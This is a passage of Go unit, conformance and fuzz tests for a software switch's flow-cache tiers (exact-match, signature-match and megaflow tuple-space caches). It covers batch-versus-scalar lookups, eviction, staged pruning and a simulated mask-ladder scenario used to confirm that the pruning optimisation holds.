		keyFor(0x0a7f0001), // depth 1
		keyFor(0xc0a80101), // depth 2
		keyFor(0x0b000000), // miss (full scan)
		keyFor(0xac100507), // depth 3
		keyFor(0x08080808), // depth 4
		keyFor(0xdeadbeef), // miss
		keyFor(0x0a7f0002), // depth 1 again
	}
	seqM, batchM := build(), build()
	type res struct {
		ok   bool
		cost int
	}
	seq := make([]res, len(keys))
	for i, k := range keys {
		_, cost, ok := seqM.Lookup(k, 9)
		seq[i] = res{ok: ok, cost: cost}
	}
	var miss burst.Bitmap
	miss.Reset(len(keys))
	miss.SetAll()
	ents := make([]*cache.Entry, len(keys))
	costs := make([]int, len(keys))
	batchM.LookupBatch(keys, 9, ents, costs, &miss)
	for i := range keys {
		if got := !miss.Test(i); got != seq[i].ok || costs[i] != seq[i].cost {
			t.Errorf("key %d: batch (hit=%v cost=%d) vs scalar (hit=%v cost=%d)",
				i, !miss.Test(i), costs[i], seq[i].ok, seq[i].cost)
		}
	}
	if seqM.Lookups != batchM.Lookups || seqM.Hits != batchM.Hits ||
		seqM.Misses != batchM.Misses || seqM.MasksScanned != batchM.MasksScanned {
		t.Errorf("counters diverge: scalar {L%d H%d M%d S%d} batch {L%d H%d M%d S%d}",
			seqM.Lookups, seqM.Hits, seqM.Misses, seqM.MasksScanned,
			batchM.Lookups, batchM.Hits, batchM.Misses, batchM.MasksScanned)
	}
}

// TestMegaflowBatchSortedTSSFallback: with hit-count re-sorting enabled
// the sweep must fall back to scalar per-key semantics (resort boundaries
// are clocked per lookup), so batch == sequential still holds exactly.
func TestMegaflowBatchSortedTSSFallback(t *testing.T) {
	build := func() *cache.Megaflow {
		m := cache.NewMegaflow(cache.MegaflowConfig{SortByHits: true, SortEvery: 4})
		for i, plen := range []int{8, 16, 24} {
			var match flow.Match
			match.Key.Set(flow.FieldIPSrc, uint64(0x0a000000+i<<8))
			match.Mask.SetPrefix(flow.FieldIPSrc, plen)
			if _, err := m.Insert(match, allowVerdict(), 1); err != nil {
				t.Fatal(err)
			}
		}
		return m
	}
	var k flow.Key
	k.Set(flow.FieldIPSrc, 0x0a000001)
	keys := make([]flow.Key, 16)
	for i := range keys {
		keys[i] = k // hammer one key so the resort threshold crosses mid-burst
	}
	seqM, batchM := build(), build()
	seqCosts := make([]int, len(keys))
	for i := range keys {
		_, cost, _ := seqM.Lookup(keys[i], 3)
		seqCosts[i] = cost
	}
	var miss burst.Bitmap
	miss.Reset(len(keys))
	miss.SetAll()
	ents := make([]*cache.Entry, len(keys))
	costs := make([]int, len(keys))
	batchM.LookupBatch(keys, 3, ents, costs, &miss)
	if !miss.Empty() {
		t.Fatal("resident key missed under SortByHits")
	}
	for i := range keys {
		if costs[i] != seqCosts[i] {
			t.Errorf("key %d: batch cost=%d, scalar cost=%d (resort boundary shifted)", i, costs[i], seqCosts[i])
		}
	}
	if seqM.MasksScanned != batchM.MasksScanned {
		t.Errorf("MasksScanned diverge: %d vs %d", seqM.MasksScanned, batchM.MasksScanned)
	}
}

// TestMegaflowTierEvictsIdle pins the authoritative tier's extra duty: the
// idle sweep actually removes stale megaflows (reference tiers instead
// invalidate lazily and return 0).
func TestMegaflowTierEvictsIdle(t *testing.T) {
	tier := dataplane.NewMegaflowTier(cache.MegaflowConfig{})
	hot := confKey(0x0a000001, 80)
	cold := confKey(0x0a000002, 81)
	for _, k := range []flow.Key{hot, cold} {
		if _, err := tier.InsertMegaflow(flow.Match{Key: k, Mask: flow.ExactMask}, allowVerdict(), 1); err != nil {
			t.Fatal(err)
		}
	}
	tier.Lookup(hot, 30)
	if evicted := tier.EvictIdle(20); evicted != 1 {
		t.Fatalf("evicted = %d, want 1 (the cold entry)", evicted)
	}
	if _, _, ok := tier.Lookup(hot, 31); !ok {
		t.Fatal("hot entry evicted")
	}
	if _, _, ok := tier.Lookup(cold, 31); ok {
		t.Fatal("cold entry survived")
	}
}
