// Tier conformance suite: every cache tier the dataplane can stack — EMC,
// SMC, megaflow TSS — must satisfy the same behavioural contract, checked
// here against the dataplane.Tier adapters. New tier implementations
// should be added to the fixture table.
package cache_test

import (
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func confKey(src, dport uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, src)
	k.Set(flow.FieldTPDst, dport)
	return k
}

func allowVerdict() cache.Verdict { return cache.Verdict{Verdict: flowtable.Allow} }

// tierFixture builds one tier under test. seed makes key k resident with
// verdict v at time now, going through the tier's own installation route
// (InsertMegaflow for the authoritative tier, Install of a live backing
// megaflow entry for reference tiers). kill marks k's backing entry dead,
// or is nil for tiers whose entries cannot dangle.
type tierFixture struct {
	tier dataplane.Tier
	seed func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry
	kill func(k flow.Key)
}

func fixtures(t *testing.T) map[string]func() tierFixture {
	t.Helper()
	// Reference tiers (EMC, SMC) cache pointers into an authoritative
	// megaflow cache, exactly as they do inside the switch.
	refFixture := func(tier dataplane.Tier) tierFixture {
		backing := cache.NewMegaflow(cache.MegaflowConfig{})
		matchFor := func(k flow.Key) flow.Match {
			return flow.Match{Key: k, Mask: flow.ExactMask}
		}
		return tierFixture{
			tier: tier,
			seed: func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry {
				t.Helper()
				ent, err := backing.Insert(matchFor(k), v, now)
				if err != nil {
					t.Fatal(err)
				}
				tier.Install(k, ent)
				return ent
			},
			kill: func(k flow.Key) { backing.Remove(matchFor(k)) },
		}
	}
	return map[string]func() tierFixture{
		"emc": func() tierFixture {
			return refFixture(dataplane.NewEMCTier(cache.EMCConfig{}))
		},
		"smc": func() tierFixture {
			return refFixture(dataplane.NewSMCTier(cache.SMCConfig{}))
		},
		"megaflow": func() tierFixture {
			tier := dataplane.NewMegaflowTier(cache.MegaflowConfig{})
			return tierFixture{
				tier: tier,
				seed: func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry {
					t.Helper()
					ent, err := tier.InsertMegaflow(flow.Match{Key: k, Mask: flow.ExactMask}, v, now)
					if err != nil {
						t.Fatal(err)
					}
					return ent
				},
				kill: nil, // authoritative: its entries cannot dangle
			}
		},
	}
}

func TestTierConformance(t *testing.T) {
	for name, build := range fixtures(t) {
		t.Run(name, func(t *testing.T) {
			t.Run("identity", func(t *testing.T) {
				f := build()
				if f.tier.Name() == "" {
					t.Error("tier has no name")
				}
				if f.tier.Path() == dataplane.PathSlow {
					t.Error("a cache tier must not report the slow path")
				}
			})

			t.Run("fresh tier misses", func(t *testing.T) {
				f := build()
				if _, _, ok := f.tier.Lookup(confKey(0x0a000001, 80), 1); ok {
					t.Fatal("empty tier reported a hit")
				}
				if f.tier.Stats().Misses == 0 {
					t.Error("miss not counted")
				}
			})

			t.Run("seeded key hits with its verdict", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				seeded := f.seed(t, k, allowVerdict(), 5)
				ent, _, ok := f.tier.Lookup(k, 7)
				if !ok {
					t.Fatal("seeded key missed")
				}
				if ent != seeded {
					t.Fatal("hit returned a different entry than was seeded")
				}
				if ent.Verdict != allowVerdict() {
					t.Fatalf("verdict = %v", ent.Verdict)
				}
				if ent.Hits == 0 {
					t.Error("hit did not credit the entry")
				}
				if ent.LastHit != 7 {
					t.Errorf("LastHit = %d, want 7 (hits must refresh idle state)", ent.LastHit)
				}
				st := f.tier.Stats()
				if st.Hits == 0 {
					t.Error("hit not counted in stats")
				}
				if st.Entries == 0 {
					t.Error("stats report an empty tier after a seed")
				}
			})

			t.Run("other keys still miss", func(t *testing.T) {
				f := build()
				f.seed(t, confKey(0x0a000001, 80), allowVerdict(), 1)
				if _, _, ok := f.tier.Lookup(confKey(0x0a000002, 80), 2); ok {
					t.Fatal("unseeded key hit")
				}
			})

			t.Run("flush empties the tier", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				f.seed(t, k, allowVerdict(), 1)
				f.tier.Flush()
				if _, _, ok := f.tier.Lookup(k, 2); ok {
					t.Fatal("hit after Flush")
				}
			})

			t.Run("evict idle does not panic and hits refresh", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				f.seed(t, k, allowVerdict(), 1)
				f.tier.Lookup(k, 50) // refresh
				evicted := f.tier.EvictIdle(40)
				if evicted < 0 {
					t.Fatalf("evicted = %d", evicted)
				}
				// A recently-hit entry must survive any tier's idle sweep.
				if _, _, ok := f.tier.Lookup(k, 51); !ok {
					t.Fatal("recently-hit entry evicted by idle sweep")
				}
			})

			if build().kill != nil {
				t.Run("dead references purge lazily", func(t *testing.T) {
					f := build()
					k := confKey(0x0a000001, 80)
					f.seed(t, k, allowVerdict(), 1)
					f.kill(k)
					if _, _, ok := f.tier.Lookup(k, 2); ok {
						t.Fatal("dead reference served as a hit")
					}
				})
			}
		})
	}
}

// TestMegaflowTierEvictsIdle pins the authoritative tier's extra duty: the
// idle sweep actually removes stale megaflows (reference tiers instead
// invalidate lazily and return 0).
func TestMegaflowTierEvictsIdle(t *testing.T) {
	tier := dataplane.NewMegaflowTier(cache.MegaflowConfig{})
	hot := confKey(0x0a000001, 80)
	cold := confKey(0x0a000002, 81)
	for _, k := range []flow.Key{hot, cold} {
		if _, err := tier.InsertMegaflow(flow.Match{Key: k, Mask: flow.ExactMask}, allowVerdict(), 1); err != nil {
			t.Fatal(err)
		}
	}
	tier.Lookup(hot, 30)
	if evicted := tier.EvictIdle(20); evicted != 1 {
		t.Fatalf("evicted = %d, want 1 (the cold entry)", evicted)
	}
	if _, _, ok := tier.Lookup(hot, 31); !ok {
		t.Fatal("hot entry evicted")
	}
	if _, _, ok := tier.Lookup(cold, 31); ok {
		t.Fatal("cold entry survived")
	}
}
