package cache

import (
	"testing"

	"policyinject/internal/flow"
)

// TestSMCInsertHashedEqualsInsert pins the hashed-install contract: given
// h == k.Hash(), InsertHashed must leave the cache and its counters in
// exactly the state Insert would — including the overwrite-on-collision
// eviction accounting — so the batch walk's cached-hash installs are
// observationally identical to scalar re-hash installs.
func TestSMCInsertHashedEqualsInsert(t *testing.T) {
	keyN := func(i int) flow.Key {
		var k flow.Key
		k.Set(flow.FieldIPSrc, uint64(0x0a000000+i))
		k.Set(flow.FieldTPDst, uint64(80+i%3))
		return k
	}
	entry := func(k flow.Key) *Entry {
		return &Entry{Match: flow.Match{Key: k, Mask: flow.ExactMask}}
	}

	plain := NewSMC(SMCConfig{Entries: 1 << 6}) // tiny: forces collisions
	hashed := NewSMC(SMCConfig{Entries: 1 << 6})
	for i := 0; i < 512; i++ {
		k := keyN(i)
		e := entry(k)
		plain.Insert(k, e)
		hashed.InsertHashed(k, k.Hash(), e)
	}
	if plain.Len() != hashed.Len() {
		t.Fatalf("Len: plain %d, hashed %d", plain.Len(), hashed.Len())
	}
	if plain.Inserts != hashed.Inserts || plain.Evictions != hashed.Evictions {
		t.Fatalf("counters: plain inserts=%d evict=%d, hashed inserts=%d evict=%d",
			plain.Inserts, plain.Evictions, hashed.Inserts, hashed.Evictions)
	}
	for i := 0; i < 512; i++ {
		k := keyN(i)
		a, aok := plain.Lookup(k, 1)
		b, bok := hashed.Lookup(k, 1)
		if aok != bok || (aok && a.Match != b.Match) {
			t.Fatalf("key %d: plain (%v,%v) != hashed (%v,%v)", i, a, aok, b, bok)
		}
	}

	// Disabled cache: both paths are no-ops.
	off := NewSMC(SMCConfig{Entries: -1})
	k := keyN(1)
	off.InsertHashed(k, k.Hash(), entry(k))
	if off.Len() != 0 || off.Inserts != 0 {
		t.Fatal("disabled SMC accepted a hashed insert")
	}
}
