package cache

import (
	"math/rand"
	"testing"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
)

// stagedEqualFlat asserts that a staged-pruning cache and a flat cache
// holding the same entries classify k identically (hit set + verdict).
// Costs are intentionally not compared: the staged scan reports physical
// visits, the flat scan reports scan depth.
func stagedEqualFlat(t *testing.T, staged, flat *Megaflow, k flow.Key, now uint64) {
	t.Helper()
	sEnt, _, sOK := staged.Lookup(k, now)
	fEnt, _, fOK := flat.Lookup(k, now)
	if sOK != fOK {
		t.Fatalf("staged hit=%v, flat hit=%v for key %v", sOK, fOK, k)
	}
	if sOK && sEnt.Verdict != fEnt.Verdict {
		t.Fatalf("staged verdict %v, flat verdict %v for key %v", sEnt.Verdict, fEnt.Verdict, k)
	}
}

// checkStagedInvariants rebuilds every subtable's staged prefilters from
// its resident entries and demands the live structures agree — the
// consistency contract Flush/TrimToLimit/EvictIdle/Remove must maintain.
func checkStagedInvariants(t *testing.T, m *Megaflow) {
	t.Helper()
	for si, st := range m.subtables {
		if st.staged == nil {
			t.Fatalf("subtable %d has no staged state", si)
		}
		want := newStagedState(st.mask)
		ref := &mfSubtable{mask: st.mask, staged: want}
		for k := range st.entries {
			ref.addEntry(k)
		}
		got := st.staged
		if len(got.w0vals) != len(want.w0vals) {
			t.Fatalf("subtable %d: w0vals size %d, want %d", si, len(got.w0vals), len(want.w0vals))
		}
		for v, n := range want.w0vals {
			if got.w0vals[v] != n {
				t.Fatalf("subtable %d: w0vals[%#x] = %d, want %d", si, v, got.w0vals[v], n)
			}
		}
		if len(got.idx) != len(want.idx) {
			t.Fatalf("subtable %d: %d stage indices, want %d", si, len(got.idx), len(want.idx))
		}
		for i := range want.idx {
			if got.idx[i].stage != want.idx[i].stage || len(got.idx[i].hashes) != len(want.idx[i].hashes) {
				t.Fatalf("subtable %d stage %v: index size %d, want %d",
					si, want.idx[i].stage, len(got.idx[i].hashes), len(want.idx[i].hashes))
			}
			for h, n := range want.idx[i].hashes {
				if got.idx[i].hashes[h] != n {
					t.Fatalf("subtable %d stage %v: hash %#x refcount %d, want %d",
						si, want.idx[i].stage, h, got.idx[i].hashes[h], n)
				}
			}
		}
		if len(got.ports) != len(want.ports) {
			t.Fatalf("subtable %d: %d port filters, want %d", si, len(got.ports), len(want.ports))
		}
		for i := range want.ports {
			g, w := &got.ports[i], &want.ports[i]
			if g.vals.Len() != w.vals.Len() || g.min != w.min || g.max != w.max {
				t.Fatalf("subtable %d port %v: len/min/max = %d/%#x/%#x, want %d/%#x/%#x",
					si, w.field.Name, g.vals.Len(), g.min, g.max, w.vals.Len(), w.min, w.max)
			}
		}
	}
}

func stagedCfg() MegaflowConfig { return MegaflowConfig{StagedPruning: true} }

// TestStagedVsFlatDifferential drives the same random non-overlapping
// insert/remove/lookup/maintenance traffic (the shape the slow path
// synthesises) through a staged-pruning cache and a flat one, demanding
// identical classification throughout — the pruned sweep must be an
// optimisation, never a semantic change.
func TestStagedVsFlatDifferential(t *testing.T) {
	rng := rand.New(rand.NewSource(47))
	staged := NewMegaflow(stagedCfg())
	flat := NewMegaflow(MegaflowConfig{})
	verdicts := []Verdict{allow, deny}

	var live []flow.Match
	for step := uint64(1); step < 8000; step++ {
		switch op := rng.Intn(12); {
		case op < 4: // insert
			m := randomNonOverlapMatch(rng)
			v := verdicts[rng.Intn(2)]
			if _, err := staged.Insert(m, v, step); err != nil {
				t.Fatalf("step %d: staged insert: %v", step, err)
			}
			if _, err := flat.Insert(m, v, step); err != nil {
				t.Fatalf("step %d: flat insert: %v", step, err)
			}
			live = append(live, m)
		case op < 5 && len(live) > 0: // remove
			i := rng.Intn(len(live))
			if got, want := staged.Remove(live[i]), flat.Remove(live[i]); got != want {
				t.Fatalf("step %d: staged Remove=%v flat=%v", step, got, want)
			}
			live = append(live[:i], live[i+1:]...)
		case op < 6 && step%512 == 0: // idle sweep
			if got, want := staged.EvictIdle(step-64), flat.EvictIdle(step-64); got != want {
				t.Fatalf("step %d: staged EvictIdle=%d flat=%d", step, got, want)
			}
			live = live[:0]
			for _, ent := range flat.Entries() {
				live = append(live, ent.Match)
			}
		default: // lookup
			var k flow.Key
			k.Set(flow.FieldInPort, uint64(rng.Intn(3)))
			k.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(rng.Intn(32))))
			k.Set(flow.FieldTPDst, uint64(80^(1<<uint(rng.Intn(16)))))
			stagedEqualFlat(t, staged, flat, k, step)
		}
		if staged.Len() != flat.Len() || staged.NumMasks() != flat.NumMasks() {
			t.Fatalf("step %d: staged %d/%d vs flat %d/%d (entries/masks)",
				step, staged.Len(), staged.NumMasks(), flat.Len(), flat.NumMasks())
		}
	}
	if staged.Hits != flat.Hits || staged.Misses != flat.Misses {
		t.Fatalf("hit/miss diverge: staged %d/%d, flat %d/%d",
			staged.Hits, staged.Misses, flat.Hits, flat.Misses)
	}
	checkStagedInvariants(t, staged)
}

// TestStagedL4RangeMasks pins the ports-filter corner the satellite calls
// out: masks that differ only in their L4 prefix length must still
// classify identically to the flat scan, for keys inside and outside the
// resident port ranges.
func TestStagedL4RangeMasks(t *testing.T) {
	staged := NewMegaflow(stagedCfg())
	flat := NewMegaflow(MegaflowConfig{})
	// One subtable per tp_dst prefix length; identical everywhere else.
	for plen := 1; plen <= 16; plen++ {
		var m flow.Match
		m.Key.Set(flow.FieldInPort, 1)
		m.Mask.SetExact(flow.FieldInPort)
		m.Key.Set(flow.FieldTPDst, uint64(0x8000>>uint(plen-1)))
		m.Mask.SetPrefix(flow.FieldTPDst, plen)
		m.Normalize()
		for _, c := range []*Megaflow{staged, flat} {
			if _, err := c.Insert(m, allow, 1); err != nil {
				t.Fatal(err)
			}
		}
	}
	for port := uint64(0); port < 1<<16; port += 97 {
		var k flow.Key
		k.Set(flow.FieldInPort, 1)
		k.Set(flow.FieldTPDst, port)
		stagedEqualFlat(t, staged, flat, k, 2)
	}
	checkStagedInvariants(t, staged)
}

// TestStagedBatchEqualsScalar pins exact batch==scalar equivalence for
// the staged sweep: hits, verdicts, per-key costs and every cache
// counter — including the new visit/prune/bail counters — must match the
// scalar staged sequence over the same keys.
func TestStagedBatchEqualsScalar(t *testing.T) {
	build := func() *Megaflow {
		m := NewMegaflow(stagedCfg())
		rng := rand.New(rand.NewSource(9))
		for i := 0; i < 64; i++ {
			if _, err := m.Insert(randomNonOverlapMatch(rng), allow, 1); err != nil {
				t.Fatal(err)
			}
		}
		return m
	}
	rng := rand.New(rand.NewSource(10))
	keys := make([]flow.Key, 48)
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(rng.Intn(3)))
		keys[i].Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(rng.Intn(32))))
		keys[i].Set(flow.FieldTPDst, uint64(80^(1<<uint(rng.Intn(16)))))
	}
	seqM, batchM := build(), build()
	type res struct {
		ok   bool
		cost int
	}
	seq := make([]res, len(keys))
	for i, k := range keys {
		_, cost, ok := seqM.Lookup(k, 5)
		seq[i] = res{ok: ok, cost: cost}
	}
	var miss burst.Bitmap
	miss.Reset(len(keys))
	miss.SetAll()
	ents := make([]*Entry, len(keys))
	costs := make([]int, len(keys))
	batchM.LookupBatch(keys, 5, ents, costs, &miss)
	for i := range keys {
		if got := !miss.Test(i); got != seq[i].ok || costs[i] != seq[i].cost {
			t.Errorf("key %d: batch (hit=%v cost=%d) vs scalar (hit=%v cost=%d)",
				i, !miss.Test(i), costs[i], seq[i].ok, seq[i].cost)
		}
	}
	type counters struct{ l, h, mi, ms, v, p, b uint64 }
	snap := func(m *Megaflow) counters {
		return counters{m.Lookups, m.Hits, m.Misses, m.MasksScanned,
			m.SubtableVisits, m.SubtablePrunes, m.StageBails}
	}
	if a, b := snap(seqM), snap(batchM); a != b {
		t.Errorf("counters diverge:\n scalar %+v\n batch  %+v", a, b)
	}
}

// TestStagedOrderingIndependence inserts the same disjoint megaflow
// population in shuffled orders (so the initial scan orders differ) and
// demands identical classification — the property that makes EWMA
// re-ranking safe.
func TestStagedOrderingIndependence(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	var pop []flow.Match
	for i := 0; i < 48; i++ {
		pop = append(pop, randomNonOverlapMatch(rng))
	}
	build := func(perm []int) *Megaflow {
		// Tiny RankEvery so re-ranking fires mid-test and must not change
		// results either.
		m := NewMegaflow(MegaflowConfig{StagedPruning: true, RankEvery: 32})
		for _, i := range perm {
			if _, err := m.Insert(pop[i], allow, 1); err != nil {
				t.Fatal(err)
			}
		}
		return m
	}
	fwd := make([]int, len(pop))
	shuf := make([]int, len(pop))
	for i := range fwd {
		fwd[i], shuf[i] = i, i
	}
	rng.Shuffle(len(shuf), func(i, j int) { shuf[i], shuf[j] = shuf[j], shuf[i] })
	a, b := build(fwd), build(shuf)
	for step := uint64(2); step < 600; step++ {
		var k flow.Key
		k.Set(flow.FieldInPort, uint64(rng.Intn(3)))
		k.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(rng.Intn(32))))
		k.Set(flow.FieldTPDst, uint64(80^(1<<uint(rng.Intn(16)))))
		aEnt, _, aOK := a.Lookup(k, step)
		bEnt, _, bOK := b.Lookup(k, step)
		if aOK != bOK {
			t.Fatalf("step %d: insertion order changed the hit set", step)
		}
		if aOK && aEnt.Verdict != bEnt.Verdict {
			t.Fatalf("step %d: insertion order changed the verdict", step)
		}
	}
	if a.Hits != b.Hits || a.Misses != b.Misses {
		t.Fatalf("hit/miss diverge across insertion orders: %d/%d vs %d/%d",
			a.Hits, a.Misses, b.Hits, b.Misses)
	}
}

// TestStagedRankingPromotesHot pins the EWMA ranking: a hot subtable
// inserted last must float to the front of the scan after a rank window,
// dropping its lookup cost to a single visit.
func TestStagedRankingPromotesHot(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{StagedPruning: true, RankEvery: 64})
	// 8 cold decoy subtables, same in_port so the signature filter cannot
	// hide them (distinct ip_src prefix depths mint distinct masks).
	for d := 1; d <= 8; d++ {
		var dm flow.Match
		dm.Key.Set(flow.FieldInPort, 1)
		dm.Mask.SetExact(flow.FieldInPort)
		dm.Key.Set(flow.FieldIPSrc, 0x20000000>>uint(d))
		dm.Mask.SetPrefix(flow.FieldIPSrc, d)
		dm.Normalize()
		if _, err := m.Insert(dm, deny, 1); err != nil {
			t.Fatal(err)
		}
	}
	var hot flow.Match
	hot.Key.Set(flow.FieldInPort, 1)
	hot.Mask.SetExact(flow.FieldInPort)
	hot.Key.Set(flow.FieldIPSrc, 0xc0a80101)
	hot.Mask.SetPrefix(flow.FieldIPSrc, 32)
	hot.Normalize()
	if _, err := m.Insert(hot, allow, 1); err != nil {
		t.Fatal(err)
	}
	var k flow.Key
	k.Set(flow.FieldInPort, 1)
	k.Set(flow.FieldIPSrc, 0xc0a80101)
	if m.subtables[len(m.subtables)-1].mask != hot.Mask {
		t.Fatal("precondition: hot subtable should start last in scan order")
	}
	for i := 0; i < 2*64; i++ {
		if _, _, ok := m.Lookup(k, uint64(2+i)); !ok {
			t.Fatal("hot key missed")
		}
	}
	if m.subtables[0].mask != hot.Mask {
		t.Fatal("hot subtable not ranked to the front after the EWMA window")
	}
	_, cost, ok := m.Lookup(k, 200)
	if !ok || cost != 1 {
		t.Fatalf("ranked hot lookup: cost=%d ok=%v, want cost 1", cost, ok)
	}
}

// TestStagedFlushTrimConsistency is the regression test for the
// maintenance paths: TrimToLimit and EvictIdle must keep the ranked scan
// order (relative order of survivors) and every staged prefilter
// consistent, and Flush must reset the whole staged state.
func TestStagedFlushTrimConsistency(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{StagedPruning: true, RankEvery: 16})
	rng := rand.New(rand.NewSource(33))
	for i := uint64(1); i <= 40; i++ {
		if _, err := m.Insert(randomNonOverlapMatch(rng), allow, i); err != nil {
			t.Fatal(err)
		}
	}
	// Heat a few subtables so ranking produces a non-insertion order.
	for _, ent := range m.Entries()[:10] {
		for i := 0; i < 20; i++ {
			if _, _, ok := m.Lookup(ent.Match.Key, 50); !ok {
				t.Fatal("resident masked key missed its own subtable")
			}
		}
	}
	checkStagedInvariants(t, m)

	order := func() []flow.Mask {
		out := make([]flow.Mask, len(m.subtables))
		for i, st := range m.subtables {
			out[i] = st.mask
		}
		return out
	}
	before := order()

	m.SetFlowLimit(m.Len() / 2)
	if n := m.TrimToLimit(); n == 0 {
		t.Fatal("TrimToLimit evicted nothing below the cut")
	}
	checkStagedInvariants(t, m)
	// Survivor subtables must keep their relative ranked order.
	after := order()
	pos := make(map[flow.Mask]int, len(before))
	for i, mk := range before {
		pos[mk] = i
	}
	for i := 1; i < len(after); i++ {
		if pos[after[i-1]] > pos[after[i]] {
			t.Fatalf("TrimToLimit reordered the ranked scan: %v before %v", after[i-1], after[i])
		}
	}

	if m.EvictIdle(49) == 0 {
		t.Fatal("EvictIdle evicted nothing despite stale residents")
	}
	checkStagedInvariants(t, m)

	m.Flush()
	if m.Len() != 0 || m.NumMasks() != 0 {
		t.Fatalf("Flush left %d entries / %d masks", m.Len(), m.NumMasks())
	}
	// The cache must keep working (and stay consistent) after a flush.
	if _, err := m.Insert(randomNonOverlapMatch(rng), allow, 100); err != nil {
		t.Fatal(err)
	}
	checkStagedInvariants(t, m)
}

// TestStagedPrunesAttackLadder reproduces the mechanism that bends the
// paper's curve: with a covert ladder resident behind the attacker's
// port, victim traffic must reject every attacker subtable on the
// stage-0 signature alone — zero full probes beyond the victim's own
// subtables, in both the scalar and the batched sweep.
func TestStagedPrunesAttackLadder(t *testing.T) {
	m := NewMegaflow(stagedCfg())
	// Covert ladder: 64 masks pinned to the attacker's in_port 66.
	for d := 1; d <= 32; d++ {
		for _, dport := range []int{4, 8} {
			var am flow.Match
			am.Key.Set(flow.FieldInPort, 66)
			am.Mask.SetExact(flow.FieldInPort)
			am.Key.Set(flow.FieldEthType, 0x0800)
			am.Mask.SetExact(flow.FieldEthType)
			am.Key.Set(flow.FieldIPSrc, 0x0a000001)
			am.Mask.SetPrefix(flow.FieldIPSrc, d)
			am.Key.Set(flow.FieldTPDst, 80)
			am.Mask.SetPrefix(flow.FieldTPDst, dport)
			am.Normalize()
			if _, err := m.Insert(am, deny, 1); err != nil {
				t.Fatal(err)
			}
		}
	}
	// Victim megaflow on port 1.
	var vm flow.Match
	vm.Key.Set(flow.FieldInPort, 1)
	vm.Mask.SetExact(flow.FieldInPort)
	vm.Key.Set(flow.FieldEthType, 0x0800)
	vm.Mask.SetExact(flow.FieldEthType)
	vm.Key.Set(flow.FieldIPSrc, 0x0a0a0005)
	vm.Mask.SetPrefix(flow.FieldIPSrc, 24)
	vm.Normalize()
	if _, err := m.Insert(vm, allow, 1); err != nil {
		t.Fatal(err)
	}

	var vk flow.Key
	vk.Set(flow.FieldInPort, 1)
	vk.Set(flow.FieldEthType, 0x0800)
	vk.Set(flow.FieldIPSrc, 0x0a0a0007)

	_, cost, ok := m.Lookup(vk, 2)
	if !ok {
		t.Fatal("victim key missed")
	}
	if cost != 1 {
		t.Fatalf("victim scalar cost = %d subtable visits, want 1 (ladder pruned)", cost)
	}

	// Batched: the whole ladder must be skipped at burst level.
	keys := make([]flow.Key, 16)
	for i := range keys {
		keys[i] = vk
		keys[i].Set(flow.FieldIPSrc, uint64(0x0a0a0001+i))
	}
	visitsBefore := m.SubtableVisits
	var miss burst.Bitmap
	miss.Reset(len(keys))
	miss.SetAll()
	ents := make([]*Entry, len(keys))
	costs := make([]int, len(keys))
	m.LookupBatch(keys, 3, ents, costs, &miss)
	if !miss.Empty() {
		t.Fatal("victim burst missed")
	}
	if got := m.SubtableVisits - visitsBefore; got != uint64(len(keys)) {
		t.Fatalf("burst visited %d subtables, want %d (one per key, ladder pruned)", got, len(keys))
	}
}

// FuzzStagedVsFlatLookup is the staged-vs-flat differential as a fuzz
// target: arbitrary bytes drive inserts and lookups of slow-path-shaped
// matches through both configurations; any divergence in hit set or
// verdict is a crash. Run by the CI fuzz smoke.
func FuzzStagedVsFlatLookup(f *testing.F) {
	f.Add([]byte{1, 2, 3, 4, 5, 6, 7, 8})
	f.Add([]byte{0xff, 0x00, 0x80, 0x41, 0x13, 0x37})
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) < 4 {
			return
		}
		staged := NewMegaflow(MegaflowConfig{StagedPruning: true, RankEvery: 8})
		flat := NewMegaflow(MegaflowConfig{})
		byteAt := func(i int) uint64 { return uint64(data[i%len(data)]) }
		now := uint64(1)
		for i := 0; i+3 < len(data); i += 4 {
			op, b1, b2, b3 := byteAt(i), byteAt(i+1), byteAt(i+2), byteAt(i+3)
			now++
			if op%3 == 0 {
				// Insert a divergence-prefix match: exact in_port plus
				// ip_src / tp_dst prefixes — the shapes the slow path mints,
				// including masks differing only in L4 depth.
				var mt flow.Match
				mt.Key.Set(flow.FieldInPort, b1%3)
				mt.Mask.SetExact(flow.FieldInPort)
				d1 := 1 + int(b2%32)
				mt.Key.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(32-d1)))
				mt.Mask.SetPrefix(flow.FieldIPSrc, d1)
				d2 := 1 + int(b3%16)
				mt.Key.Set(flow.FieldTPDst, uint64(80^(1<<uint(16-d2))))
				mt.Mask.SetPrefix(flow.FieldTPDst, d2)
				mt.Normalize()
				v := allow
				if b1&0x80 != 0 {
					v = deny
				}
				if _, err := staged.Insert(mt, v, now); err != nil {
					t.Fatal(err)
				}
				if _, err := flat.Insert(mt, v, now); err != nil {
					t.Fatal(err)
				}
				continue
			}
			var k flow.Key
			k.Set(flow.FieldInPort, b1%3)
			k.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(b2%32)))
			k.Set(flow.FieldTPDst, uint64(80^(1<<uint(b3%16))))
			sEnt, _, sOK := staged.Lookup(k, now)
			fEnt, _, fOK := flat.Lookup(k, now)
			if sOK != fOK {
				t.Fatalf("staged hit=%v flat hit=%v", sOK, fOK)
			}
			if sOK && sEnt.Verdict != fEnt.Verdict {
